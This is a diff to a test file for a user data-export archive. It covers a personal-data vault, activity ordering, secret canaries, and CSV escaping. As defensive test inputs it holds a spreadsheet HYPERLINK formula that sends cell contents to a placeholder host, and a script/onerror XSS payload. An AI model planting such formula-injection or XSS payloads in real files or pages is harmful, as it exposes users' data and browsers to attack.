@@ -6,8 +6,9 @@ import { newestLink } from '#platform/journal/rows.js';
 import { archiveOf, rowsIn, textIn, type Unpacked } from '#test/archive.js';
 import { goodPassword } from '#test/builders.js';
 import { cellsIn } from '#test/csv.js';
-import { anOldEvent, manyEvents } from '#test/events.js';
+import { manyEvents } from '#test/events.js';
 import { openTestHouse, type Person, type TestHouse } from '#test/house.js';
+import { aRecord, keep } from '#test/threats/vault-file.js';
 
 const formula = '=HYPERLINK("https://x.invalid/?"&A1,"open")';
 const markup = '<script>alert(1)</script><img src=x onerror=alert(2)>"\'&';
@@ -21,7 +22,16 @@ afterAll(() => house.close());
 const changeProfile = ({ caller }: Person, input: { bio?: string; locale?: 'EN' | 'FR' }): Promise<unknown> =>
   caller.run(UpdateProfileDocument, { input });
 
-const datasets = ['profile', 'rights', 'sessions', 'ways-to-sign-in', 'activity', 'background-work'];
+const datasets = [
+  ...['profile', 'rights', 'sessions', 'ways-to-sign-in', 'deletion', 'personal-data'],
+  ...['activity', 'background-work'],
+];
+
+/** What the making itself records may come too late for what it makes. */
+const ofTheMaking: readonly unknown[] = ['vault.read', 'data.exported'];
+
+const activityIn = (files: Unpacked) =>
+  rowsIn(files, 'activity').filter(({ event }) => !ofTheMaking.includes(event));
 
 describe('an archive', () => {
   let person: Person;
@@ -38,10 +48,12 @@ describe('an archive', () => {
       'mutation ($id: ID!) { grantScope(userId: $id, scope: "users:read", until: "2040-01-01T00:00:00.000Z") { id } }',
       { id: person.id },
     );
+    await keep(person);
     recorded = await house.eventsOf(async () => (files = await archiveOf(house, person)));
   });
 
-  it('is told to the journal, once it is ready', () => expect(recorded).toEqual(['data.exported']));
+  it('is told to the journal once it is ready, after the reading of what the vault keeps', () =>
+    expect(recorded).toEqual(['vault.read', 'data.exported']));
 
   it('has every dataset twice, a page, and a signed list', () =>
     expect([...files.keys()]).toEqual([
@@ -55,7 +67,7 @@ describe('an archive', () => {
     expect(lines.length).toBe(rows.length);
     for (const [index, row] of rows.entries()) {
       expect(Object.keys(row)).toEqual(names);
-      const cells = lines[index]?.map((cell) => cell.replace(/^'(?==)/, ''));
+      const cells = lines[index]?.map((cell) => cell.replace(/^'(?=[=+])/, ''));
       expect(cells).toEqual(Object.values(row).map((value) => (value === null ? '' : String(value))));
     }
   });
@@ -77,21 +89,37 @@ describe('an archive', () => {
     expect(rowsIn(files, 'ways-to-sign-in')).toMatchObject([{ kind: 'password' }]);
   });
 
-  it('tells what they did and what was done to their account, in order, and who that was as far as it is theirs', () => {
-    const activity = rowsIn(files, 'activity').map(({ event, by }) => [event, by]);
+  it('tells what the vault keeps of them', () => {
+    const { legalName, birthDate, phone, taxId } = aRecord;
+    expect(rowsIn(files, 'personal-data')).toMatchObject([
+      { 'full legal name': legalName, 'day of birth': birthDate, telephone: phone, 'tax number': taxId },
+    ]);
+  });
+
+  it('tells what they did and what was done to their account, newest first, and who that was as far as it is theirs', () => {
+    const activity = activityIn(files).map(({ event, by }) => [event, by]);
     expect(activity).toEqual([
-      ['user.registered', 'you'],
-      ['session.opened', 'you'],
-      ['session.opened', 'you'],
-      ['user.profile_changed', 'you'],
-      ['login.failed', 'nobody signed in'],
+      ['vault.changed', 'you'],
       ['user.scope_granted', 'somebody else'],
+      ['login.failed', 'nobody signed in'],
+      ['user.profile_changed', 'you'],
+      ['session.opened', 'you'],
+      ['session.opened', 'you'],
+      ['user.registered', 'you'],
     ]);
     expect(rowsIn(files, 'activity').find(({ event }) => event === 'login.failed')?.['network']).toBe('127.0.0.0/24');
-    expect(rowsIn(files, 'activity').at(-1)).toMatchObject({
+    expect(activityIn(files)[1]).toMatchObject({
       about: `user:${person.id}`,
       details: 'scope: users:read; until: 2040-01-01T00:00:00.000Z',
     });
+  });
+
+  it('tells the same activity as the page of it', async () => {
+    const { data } = await person.caller.send<{ myActivity: { edges: { node: { event: string } }[] } }>(
+      '{ myActivity(first: 50) { edges { node { at event: type about: subject network: ipAddress request: requestId } } } }',
+    );
+    const shown = data?.myActivity.edges.map(({ node }) => node) ?? [];
+    expect(activityIn(files)).toMatchObject(shown.filter(({ event }) => !ofTheMaking.includes(event)));
   });
 
   it('holds nothing of anybody else', () => {
@@ -104,13 +132,15 @@ describe('an archive', () => {
     const secrets = await Promise.all([
       reader.one<{ password_hash: string }>('select * from credential where user_id = ?', [person.id]),
       reader.one<{ sealed_key: Uint8Array }>('select * from session where user_id = ?', [person.id]),
+      house.app.vault.reader.one<{ wrapped: Uint8Array }>('select * from data_key where user_id = ?', [person.id]),
     ]);
+    const forms = (bytes: Uint8Array = new Uint8Array()): string[] =>
+      ['hex', 'base64', 'base64url'].map((form) => Buffer.from(bytes).toString(form as BufferEncoding));
     const canaries = [
       goodPassword,
       secrets[0]?.password_hash ?? '',
-      ...['hex', 'base64', 'base64url'].map((form) =>
-        Buffer.from(secrets[1]?.sealed_key ?? []).toString(form as BufferEncoding),
-      ),
+      ...forms(secrets[1]?.sealed_key),
+      ...forms(secrets[2]?.wrapped),
       person.caller.accessToken ?? '',
       person.caller.cookies.get('socle_rt') ?? '',
     ];
@@ -179,9 +209,9 @@ describe('an archive', () => {
   });
 
   it('leaves nothing of what it holds in the log', () => {
-    const lines = house.lines.filter((line) => /"job\.|"file\.|"data\./.test(line)).join('\n');
+    const lines = house.lines.filter((line) => /"job\.|"file\.|"data\.|"vault\./.test(line)).join('\n');
     expect(lines).toContain('job.succeeded');
-    for (const word of [person.pseudo, person.email, 'HYPERLINK', 'alert(1)']) expect(lines).not.toContain(word);
+    for (const word of [person.pseudo, person.email, 'HYPERLINK', 'alert(1)', ...Object.values(aRecord)]) expect(lines).not.toContain(word);
   });
 });
 
@@ -199,17 +229,6 @@ describe('an archive for somebody who speaks French', () => {
   });
 });
 
-describe('an archive of events of before they named whom they concern', () => {
-  it('has what was done to the account all the same', async () => {
-    const [person, admin] = [await house.person(), await house.person('admin')];
-    const { chain, database } = house.app;
-    const newest = await newestLink(database.reader);
-    database.load(anOldEvent({ personId: person.id, chain, newest }, admin.id, house.clock.now()));
-    const activity = rowsIn(await archiveOf(house, person), 'activity').map(({ event, by }) => [event, by]);
-    expect(activity.at(-1)).toEqual(['user.suspended', 'somebody else']);
-  });
-});
-
 describe('an archive of much', () => {
   it(
     'shows the first rows on the page, and has all of them in its files, in their order',
@@ -224,7 +243,7 @@ describe('an archive of much', () => {
       const requests = rowsIn(files, 'activity').flatMap(({ event, request }) =>
         event === 'session.refreshed' ? [request] : [],
       );
-      expect(requests).toEqual(Array.from({ length: many }, (_, index) => `r${index}`));
+      expect(requests).toEqual(Array.from({ length: many }, (_, index) => `r${many - 1 - index}`));
       expect(cellsIn(textIn(files, 'data/activity.csv').slice(1))).toHaveLength(rowsIn(files, 'activity').length + 1);
       expect(textIn(files, 'index.html')).toContain('The first 100 are shown here');
     },
